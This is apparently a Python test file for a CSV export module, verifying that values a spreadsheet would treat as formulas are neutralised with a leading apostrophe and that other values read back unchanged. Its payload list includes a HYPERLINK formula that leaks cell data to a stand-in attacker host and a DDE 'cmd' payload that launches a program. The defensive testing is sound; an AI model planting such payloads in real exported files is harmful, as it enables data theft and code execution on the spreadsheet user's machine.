"""CSV that a spreadsheet opens without running anything, and that reads back as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.portal import spreadsheet
from orchestrator.portal.spreadsheet import rows, written

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example.org/?x="&A1,"click")',
    "+SUM(A1)",
    "-2+3",
    "@SUM(1)",
    "  =cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ufeff=1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "|calc",
    "%0A",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_would_be_a_formula_is_a_text(formula: str) -> None:
    (cell,) = read(rows([[formula]]))[0]
    assert cell == "'" + formula


def test_negative_control_without_the_apostrophe_the_formula_stands_first(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "_FORMULA", ("\0",))
    assert read(rows([["=1+1"]])) == [["=1+1"]]


def test_what_is_ours_stays_as_it_is() -> None:
    moment = datetime(2026, 3, 3, 12, tzinfo=UTC)
    line = ["Sleep", -1, -2.5, Decimal("-0.10"), moment, None, True]
    assert read(rows([line])) == [["Sleep", "-1", "-2.5", "-0.10", "2026-03-03T12:00:00+00:00", "", "true"]]


def test_quotes_commas_and_line_breaks_stay_in_their_cell() -> None:
    assert read(rows([['a "b", c\r\nd', "e"], ["f", "g"]])) == [['a "b", c\r\nd', "e"], ["f", "g"]]


@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0")))
def test_every_text_reads_back_and_begins_no_formula(text: str) -> None:
    (cell,) = read(rows([[text]]))[0]
    assert cell in (text, "'" + text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert written(written(text)) == written(text)
